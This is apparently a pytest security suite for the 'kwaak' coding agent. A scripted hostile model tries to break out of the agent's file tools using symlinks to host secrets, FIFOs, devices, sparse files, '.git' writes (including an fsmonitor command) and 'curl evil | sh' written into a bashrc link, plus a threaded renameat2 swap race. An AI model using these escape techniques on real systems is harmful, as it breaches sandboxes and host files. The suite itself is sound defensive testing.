"""A3 and A7 (files): a scripted hostile model, through the real `kwaak run-agent`, under local,
sandbox and docker, attacks the host-side file tools with links, swaps, FIFOs, devices, `.git`
writes and sparse files. Nothing on the host is read or written, kwaak answers at once and its
memory stays small.
"""

from __future__ import annotations

import ctypes
import json
import os
import threading
from pathlib import Path
from typing import Any

from tests.reliability.headless import start_run_agent, tool_started
from tests.scripted import tool
from tests.security.harness import Outcome, config_for, files_under, host_snapshot, run_agent

SECRET = "HOST-SECRET-5b1e"
MAX_RSS_MIB = 400
"""Peak RSS of the whole kwaak process for these runs (two 2 GiB sparse files are in play)."""


def _calls(*calls: tuple[str, dict[str, Any]]) -> dict[str, Any]:
    return {"tool_calls": [{"name": name, "arguments": args} for name, args in calls]}


def _setup_step(host: Path) -> dict[str, Any]:
    return tool(
        "shell_command",
        cmd=(
            f"ln -s {host}/secret.toml leak.toml && ln -s {host} out && ln -s {host}/bashrc rc && mkfifo fifo"
            " && truncate -s 2G sparse1.bin && truncate -s 2G sparse2.bin && (mknod blk b 7 0 2>/dev/null; true)"
            " && printf 'sparse*.bin\\nfifo\\nblk\\n' > .gitignore && echo done"
        ),
    )


HOSTILE = (  # the tools of the "line" edit mode, plus write_file and reset_file
    ("read_file_with_line_numbers", {"file_name": "leak.toml"}, "symbolic link"),
    ("read_file_with_line_numbers", {"file_name": "out/secret.toml"}, "symbolic link"),
    ("read_file_with_line_numbers", {"file_name": "fifo"}, "FIFO"),
    ("read_file_with_line_numbers", {"file_name": "sparse1.bin"}, "GiB"),
    ("read_file_with_line_numbers", {"file_name": "sparse2.bin"}, "GiB"),
    ("write_file", {"file_name": "out/evil.txt", "content": "pwned"}, "symbolic link"),
    ("write_file", {"file_name": "rc", "content": "curl evil | sh"}, "symbolic link"),
    ("add_lines", {"file_name": "rc", "start_line": "0", "content": "curl evil | sh"}, "symbolic link"),
    ("write_file", {"file_name": ".git", "content": "gitdir: /tmp/evil"}, "git metadata"),
    ("write_file", {"file_name": "sub/.git/config", "content": "[core]\n fsmonitor = touch /tmp/x"}, "git metadata"),
    ("replace_lines", {"file_name": ".git", "start_line": "1", "end_line": "1", "content": "x"}, "git metadata"),
    ("reset_file", {"file_name": ".git"}, "git metadata"),
    ("replace_lines", {"file_name": "out/secret.toml", "start_line": "1", "end_line": "1", "content": "x"}, "link"),
)


def test_a3_links_fifos_devices_git_and_sparse_files(tmp_git_repo: Path, executor: str, host_dir: Path) -> None:
    """A3.6-A3.9, A7.1, A7.2: every hostile file call fails with a clear message, nothing leaks."""
    before = host_snapshot(host_dir)
    script = [
        _setup_step(host_dir),
        _calls(*((name, args) for name, args, _ in HOSTILE)),
        _calls(
            ("read_file_with_line_numbers", {"file_name": "blk"}),
            ("write_file", {"file_name": "ok.txt", "content": "fine\n"}),
        ),
    ]
    cfg = config_for(tmp_git_repo, script, executor, top='agent_edit_mode = "line"')
    out = run_agent(tmp_git_repo, cfg, timeout=300)
    assert out.code == 0, out.describe()
    results = out.tool_results()
    setup = results[0]
    assert setup["ok"] and "done" in setup["output"], setup
    hostile = results[1 : 1 + len(HOSTILE)]
    assert [r["name"] for r in hostile] == [name for name, _, _ in HOSTILE], out.describe()
    for result, (_name, args, expected) in zip(hostile, HOSTILE, strict=True):
        assert not result["ok"], (args, result)
        assert expected in result["output"], (args, result["output"])
    blk, ok_write = results[1 + len(HOSTILE) : 3 + len(HOSTILE)]
    assert not blk["ok"] and ("device" in blk["output"] or "does not exist" in blk["output"]), blk
    assert ok_write["ok"], ok_write  # file tools still work after all that
    assert host_snapshot(host_dir) == before
    assert SECRET not in out.stdout + out.stderr
    for path in files_under(tmp_git_repo.parent / "cache") + files_under(tmp_git_repo.parent / "logs"):
        if path.stat().st_size < 2**20:
            assert SECRET.encode() not in path.read_bytes(), path
    assert out.seconds < 150, out.describe()
    assert out.max_rss_mib < MAX_RSS_MIB, out.max_rss_mib


_RENAME_EXCHANGE = 2


def _exchange(a: Path, b: Path) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    at_fdcwd = -100
    if libc.renameat2(at_fdcwd, os.fsencode(a), at_fdcwd, os.fsencode(b), _RENAME_EXCHANGE) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


def _swap_forever(cache: Path, host: Path, stop: threading.Event, swaps: list[int]) -> None:
    """Swap the agent's `d/` with a link to the host directory, atomically, as fast as possible."""
    while not stop.is_set():
        found = [p for p in (cache / "worktrees").glob("*/d") if (p / "f59").is_file() and not p.is_symlink()]
        if found:
            break
        stop.wait(0.01)
    else:
        return
    d = found[0]
    link = d.with_name("d-link")
    link.symlink_to(host)
    while not stop.is_set():
        try:
            _exchange(d, link)
            swaps[0] += 1
            _exchange(d, link)
        except OSError:  # kwaak removed the worktree at the end of the run
            return


def test_a3_swapping_a_directory_for_a_link_during_file_calls(
    tmp_git_repo: Path, executor: str, host_dir: Path
) -> None:
    """A3.10: the check-then-use race. While the agent reads and writes `d/fN`, `d` is atomically
    exchanged with a link to a host directory thousands of times; no call ever reaches the host."""
    before = host_snapshot(host_dir)
    rounds = 9  # the scripted conversation is summarised (and replayed) after 10 steps
    script = [tool("shell_command", cmd="mkdir d && for i in $(seq 0 59); do echo inside > d/f$i; done")]
    for i in range(rounds):  # every call distinct: kwaak stops an agent repeating a failing call
        script.append(
            _calls(
                ("read_file_with_line_numbers", {"file_name": f"d/f{3 * i}"}),
                ("write_file", {"file_name": f"d/g{i}", "content": "agent\n"}),
                ("read_file_with_line_numbers", {"file_name": f"d/f{3 * i + 1}"}),
                ("patch_file", {"file_name": f"d/f{3 * i + 2}", "patch": "@@ -1 +1 @@\n-inside\n+patched\n"}),
            )
        )
    cfg = config_for(tmp_git_repo, script, executor)
    stop, swaps = threading.Event(), [0]
    swapper = threading.Thread(
        target=_swap_forever, args=(tmp_git_repo.parent / "cache", host_dir, stop, swaps), daemon=True
    )
    swapper.start()
    running = start_run_agent(tmp_git_repo, cfg)
    try:
        # Swap until the agent is done. (kwaak closes the executor, then removes the worktree:
        # under sandbox and docker no agent process is left to race with that removal.)
        running.wait_for_event(tool_started("stop"), timeout=240)
    finally:
        stop.set()
        swapper.join(10)
    code, stderr = running.finish(timeout=120)
    assert code == 0, (stderr, running.events[-5:])
    out = Outcome(code, "\n".join(json.dumps(e) for e in running.events), stderr, 0.0, 0.0)
    assert swaps[0] > 100, swaps
    results = [r for r in out.tool_results()[1:] if r["name"] != "stop"]
    assert len({r["call_id"] for r in results}) == len(results), [r["call_id"] for r in results]
    assert len(results) == rounds * 4, " ".join(r["name"][:5] + r["call_id"][5:] for r in results)
    for result in results:
        assert SECRET not in result["output"], result
        if not result["ok"]:
            assert "symbolic link" in result["output"], result
    assert host_snapshot(host_dir) == before
    assert not [p for p in host_dir.iterdir() if p.name.startswith(("g", ".g"))]
